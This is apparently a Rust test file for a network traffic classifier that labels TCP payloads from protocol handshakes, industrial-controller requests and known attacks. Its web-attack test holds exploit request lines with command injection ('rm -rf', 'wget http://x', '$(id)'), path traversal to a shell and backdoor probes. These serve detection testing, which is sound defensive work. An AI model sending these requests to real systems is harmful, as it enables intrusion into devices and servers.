//! Requests, attacks and strays over TCP.

use super::*;

#[test]
fn requests_of_applications_are_named() {
    check(
        vec![
            to(80, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "http2-preface"),
            to(23, b"\xff\xfd\x03\xff\xfb\x18", "telnet-negotiation"),
            to(
                5555,
                b"CNXN\0\0\0\x01\0\0\x04\0\x07\0\0\0\x32\x02\0\0\xbc\xb1\xa7\xb1host::\0",
                "adb-connect",
            ),
            to(6379, b"*1\r\n$4\r\nINFO\r\n", "redis-command"),
            to(5432, b"\0\0\0\x08\x04\xd2\x16\x2f", "postgresql-startup"),
            to(
                1433,
                b"\x12\x01\0\x34\0\0\0\0\0\0\x15\0\x06\x01\0\x1b",
                "mssql-prelogin",
            ),
            to(1099, b"JRMI\0\x02K", "java-rmi"),
            to(8000, b"JDWP-Handshake", "java-debug"),
            to(11211, b"stats\r\n", "memcached-command"),
            to(6000, b"l\0\x0b\0\0\0\0\0\0\0\0\0", "x11-setup"),
            to(6346, b"GNUTELLA CONNECT/0.6\r\n", "gnutella-connect"),
            to(4662, &long(b"\xe3\x2a\0\0\0\x01\x10", 47), "edonkey-hello"),
        ],
        tcp,
    );
}

#[test]
fn requests_of_services_are_named() {
    let ssl2 = long(
        b"\x80\x2e\x01\x03\x01\0\x15\0\0\0\x10\0\0\x66\0\0\x65\0\0\x64",
        48,
    );
    let oracle = long(b"\0\x3a\0\0\x01\0\0\0\x01\x36\x01\x2c", 58);
    let kerberos = b"\0\0\0\x0d\x6a\x0b\x30\x09\xa1\x03\x02\x01\x05\xa2\x03\x02\x01";
    let drda = b"\0\x32\xd0\x01\0\x01\0\x2c\x10\x41\0\x04\x11\x5e";
    let query = long(
        b"\x27\0\0\0\x01\0\0\0\0\0\0\0\xd4\x07\0\0\0\0\0\0admin.$cmd\0",
        39,
    );
    let message = long(b"\x19\0\0\0\x01\0\0\0\0\0\0\0\xdd\x07\0\0", 25);
    let mut rpc = b"\x80\0\0\x28\x72\xfe\x1d\x13\0\0\0\0\0\0\0\x02\0\x01\x86\xa0".to_vec();
    rpc.resize(44, 0);
    let login = b"\xff\0\0\0\0\0\0\0\0\0\0\0\0\0\xe8\x03\x64\0\0\0{ \"EncryptType\" : \"MD5\"";
    let smart_install = long(
        b"\0\0\0\x01\0\0\0\x01\0\0\0\x04\0\0\0\x08\0\0\0\x01\0\0\0\0",
        24,
    );
    check(
        vec![
            to(443, &ssl2, "ssl2-client-hello"),
            to(
                389,
                b"\x30\x0c\x02\x01\x01\x60\x07\x02\x01\x02\x04\0\x80\0",
                "ldap-request",
            ),
            to(88, kerberos, "kerberos-request"),
            to(111, &rpc, "rpc-call"),
            to(1521, &oracle, "oracle-connect"),
            to(8009, b"\x12\x34\0\x01\x0a", "ajp-request"),
            to(548, b"\0\x03\0\x01\0\0\0\0\0\0\0\0\0\0\0\0", "afp-status"),
            to(50000, drda, "drda-exchange"),
            to(1414, b"TSH \0\0\0\xec\x01\x01\x31\0", "ibm-mq"),
            to(27017, &query, "mongodb-request"),
            to(27017, &message, "mongodb-request"),
            to(
                3050,
                b"\0\0\0\x01\0\0\0\x13\0\0\0\x02\0\0\0\x24",
                "firebird-connect",
            ),
            to(9042, b"\x04\0\0\0\x05\0\0\0\0", "cassandra-options"),
            to(
                9092,
                b"\0\0\0\x0c\0\x12\0\0\0\0\0\x01\0\x02id",
                "kafka-request",
            ),
            to(5672, b"AMQP\0\0\x09\x01", "amqp-header"),
            to(61613, b"CONNECT\naccept-version:1.2\n\n\0", "stomp-connect"),
            to(
                61616,
                b"\0\0\x01\x40\x01ActiveMQ\0\0\0\x0c",
                "openwire-information",
            ),
            to(2181, b"ruok\n", "zookeeper-word"),
            to(11211, &long(&[0x80, 0x10], 24), "memcached-binary"),
            to(8020, b"hrpc\x09\0\0", "hadoop-ipc"),
            to(4369, b"\0\x01n", "erlang-port-mapper"),
            to(
                9000,
                b"\x01\x01\0\x01\0\x08\0\0\0\x01\0\0\0\0\0\0",
                "fastcgi-request",
            ),
            to(2481, b"GIOP\x01\0\x01\0\x24\0\0\0", "giop-request"),
            to(7001, b"t3 12.2.1\nAS:255\nHL:19\n\n", "weblogic-t3"),
            to(4444, b"\xac\xed\0\x05sr\0", "java-serialized"),
            to(
                135,
                &long(&[5, 0, 11, 3, 0x10, 0, 0, 0, 72, 0, 0, 0], 72),
                "dcerpc-bind",
            ),
            to(
                139,
                &long(b"\x81\0\0\x44\x20CKFDENECFDEFFCFGEFFCCACACACACACA", 72),
                "netbios-session",
            ),
            to(5900, b"RFB 003.008\n", "vnc-version"),
            to(4899, b"\x01\0\0\0\x01\0\0\0\x08\x08", "radmin"),
            to(1494, b"\x7f\x7fICA\0\x7f\x7fICA\0", "citrix-ica"),
            to(8291, b"\x13\x02index\0\0\0", "winbox-index"),
            to(34567, login, "dvrip-login"),
            to(37777, &long(&[0xa0, 0, 0, 0x60], 32), "dahua-login"),
            to(
                104,
                &long(b"\x01\0\0\0\0\x44\0\x01\0\0ANY-SCP", 74),
                "dicom-associate",
            ),
            to(2575, b"\x0bMSH|^~\\&|A|B\r\x1c\r", "hl7-message"),
            to(
                9100,
                b"\x1b%-12345X@PJL INFO ID\r\n",
                "printer-job-language",
            ),
            to(515, b"\x01default\n", "line-printer"),
            to(
                1723,
                &long(b"\0\x9c\0\x01\x1a\x2b\x3c\x4d\0\x01\0\0\x01\0", 156),
                "pptp-start",
            ),
            to(
                1194,
                b"\0\x0e\x38\x37\xa5\x26\x08\xa2\x1b\xa0\xb1\0\0\0\0\0",
                "openvpn-reset",
            ),
            to(
                9001,
                b"\0\0\x07\0\x08\0\x03\0\x04\0\x05\0\x06",
                "tor-versions",
            ),
            to(4786, &smart_install, "cisco-smart-install"),
            to(
                3260,
                &long(&[0x43, 0x87, 0, 0, 0, 0, 0, 0x60], 48),
                "iscsi-login",
            ),
            to(1935, &long(&[3, 1, 2, 3, 4], 1537), "rtmp-handshake"),
            to(25565, b"\xfe\x01", "minecraft-handshake"),
            to(
                25565,
                b"\x10\0\x2f\x0a192.0.2.18\x63\xdd\x01\x01\0",
                "minecraft-handshake",
            ),
            to(
                8333,
                b"\xf9\xbe\xb4\xd9version\0\0\0\0\0\x66\0\0\0",
                "bitcoin-version",
            ),
            to(
                3333,
                b"{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\n",
                "stratum-request",
            ),
            to(
                3333,
                b"{\"id\":1,\"method\":\"login\",\"params\":{\"login\":\"x\",\"pass\":\"x\"}}\n",
                "stratum-request",
            ),
            to(3632, b"DIST00000001ARGC00000005", "distcc"),
            to(873, b"@RSYNCD: 31.0\n", "rsync-greeting"),
            to(
                9418,
                b"0032git-upload-pack /x.git\0host=example.org\0",
                "git-upload-pack",
            ),
            to(25, b"EHLO example.org\r\n", "smtp-hello"),
            to(80, b"Gh0st\xad\0\0\0\xe0\0\0\0x\x9c", "gh0st-rat"),
            to(21, b"HELP\r\n", "help-word"),
            to(21, b"\r\n\r\n", "blank-lines"),
        ],
        tcp,
    );
}

#[test]
fn requests_of_controllers_are_named() {
    check(
        vec![
            to(502, b"\0\x01\0\0\0\x05\x01\x2b\x0e\x01\0", "modbus-request"),
            to(502, b"\0\0\0\0\0\x02\x01\x11", "modbus-request"),
            to(44818, &long(&[0x63, 0, 0, 0], 24), "ethernet-ip"),
            to(44818, &long(&[0x65, 0, 4, 0], 28), "ethernet-ip"),
            to(20000, b"\x05\x64\x05\xc9\0\0\0\0\x36\x4c", "dnp3-request"),
            to(2404, b"\x68\x04\x43\0\0\0", "iec-104"),
            to(4840, b"HELF\x35\0\0\0\0\0\0\0\0\0\x01\0", "opc-ua-hello"),
            to(
                1911,
                b"fox a 1 -1 fox hello\n{\nfox.version=s:1.0\nid=i:1\n};;\n",
                "niagara-fox",
            ),
            to(
                1962,
                b"\x01\x01\0\x1a\0\0\0\0\x78\x80\0\x03\0\x0cIBETH01N0_M\0",
                "pcworx",
            ),
            to(20547, b"\xcc\x01\0\x0b\x40\x02\0\0\x47\xee", "proconos"),
            to(2455, b"\xbb\xbb\x01\0\0\0\x01\0\0\0\0\0\0\0\0", "codesys"),
            to(
                9600,
                b"FINS\0\0\0\x0c\0\0\0\0\0\0\0\0\0\0\0\0",
                "fins-request",
            ),
            to(10001, b"\x01I20100\n", "tank-gauge"),
            to(5094, b"\x01\0\0\0\0\x02\0\x0d\x01\0\0\x4e\x20", "hart-ip"),
            to(18245, &[0; 56], "srtp-init"),
            to(789, b"\0\x04\x01\x2b\x1b\0", "red-lion"),
        ],
        tcp,
    );
}

#[test]
fn attacks_in_requests_of_the_web_are_named() {
    for (line, name) in [
        (&b"POST /picsdesc.xml HTTP/1.1"[..], "realtek-upnp"),
        (b"POST /GponForm/diag_Form?images/ HTTP/1.1", "gpon-form"),
        (b"GET /shell?cd+/tmp;rm+-rf+* HTTP/1.1", "jaws-shell"),
        (
            b"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1",
            "phpunit-eval",
        ),
        (
            b"GET /index.php?s=/Index/\\think\\app/invokefunction&function=x HTTP/1.1",
            "thinkphp-invoke",
        ),
        (
            b"POST /hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1",
            "php-argument-injection",
        ),
        (
            b"POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1",
            "path-traversal-shell",
        ),
        (
            b"GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id) HTTP/1.1",
            "tp-link-locale",
        ),
        (
            b"GET /cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ= HTTP/1.1",
            "dlink-nas-sharing",
        ),
        (
            b"POST /device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=id HTTP/1.1",
            "tbk-device-command",
        ),
        (b"PUT /SDK/webLanguage HTTP/1.1", "hikvision-language"),
        (b"POST /tmUnblock.cgi HTTP/1.1", "linksys-unblock"),
        (b"POST /cgi-bin/ViewLog.asp HTTP/1.1", "zyxel-view-log"),
        (
            b"GET /board.cgi?cmd=cd+/tmp;wget+http://x HTTP/1.1",
            "vacron-board-command",
        ),
        (
            b"POST /goform/set_LimitClient_cfg HTTP/1.1",
            "lb-link-limit-client",
        ),
        (
            b"POST /_ignition/execute-solution HTTP/1.1",
            "laravel-ignition",
        ),
        (
            b"POST /actuator/gateway/routes/x HTTP/1.1",
            "spring-gateway-routes",
        ),
        (
            b"POST /ws/v1/cluster/apps/new-application HTTP/1.1",
            "hadoop-yarn-application",
        ),
        (b"POST /mgmt/tm/util/bash HTTP/1.1", "big-ip-bash"),
        (
            b"GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1",
            "fortios-traversal",
        ),
        (
            b"POST /soap.cgi?service=WANIPConn1 HTTP/1.1",
            "dlink-soap",
        ),
    ] {
        let request = [line, b"\r\nHost: 198.51.100.7\r\n\r\n"].concat();
        let found = tcp(&Payload::new(&request, 40_001, 80)).map(|row| row.name);
        assert_eq!(found, Some(name), "{}", String::from_utf8_lossy(line));
    }
}

#[test]
fn attacks_in_other_segments_are_named() {
    let class = b"\0\0\0\x7c\x1f\0\0\0\0\0\0\0\0\0\x01\x01\0\x42org.springframework.context.support.ClassPathXmlApplicationContext";
    check(
        vec![
            to(61616, class, "activemq-class"),
            to(
                8291,
                b"\x68\x01\0\x66M2\x05\0\xff\x01\x06\0\xff\x09\x05\x07",
                "winbox-read",
            ),
            to(32764, b"MMcS\xff\xff\xff\xff\0\0\0\0", "sercomm-backdoor"),
            to(9530, b"OpenTelnet:OpenOnce", "hisilicon-telnet"),
        ],
        tcp,
    );
}

#[test]
fn what_lacks_one_mark_is_not_named() {
    for bytes in [
        // Lengths that are not the segment's own.
        b"\0\x01\0\0\0\x06\x01\x2b\x0e\x01\0".to_vec(),
        b"\x12\x34\0\x02\x0a".to_vec(),
        b"\x04\0\0\0\x05\0\0\0\x01".to_vec(),
        long(b"\x26\0\0\0\x01\0\0\0\0\0\0\0\xd4\x07\0\0", 39),
        long(b"\x80\x2f\x01\x03\x01\0\x15\0\0\0\x10\0\0\x66", 48),
        // Answers: a Modbus exception, an LDAP bind's answer, FINS to nobody.
        b"\0\x01\0\0\0\x03\x01\x91\x01".to_vec(),
        b"\x30\x0c\x02\x01\x01\x61\x07\x0a\x01\0\x04\0\x04\0".to_vec(),
        b"FINS\0\0\0".to_vec(),
        // A handshake that asks for neither status nor login.
        b"\x10\0\x2f\x0a192.0.2.18\x63\xdd\x07\x01\0".to_vec(),
    ] {
        let found = tcp(&Payload::new(&bytes, 40_001, 40_002)).map(|row| row.name);
        assert_eq!(found, None, "{bytes:02x?}");
    }
}
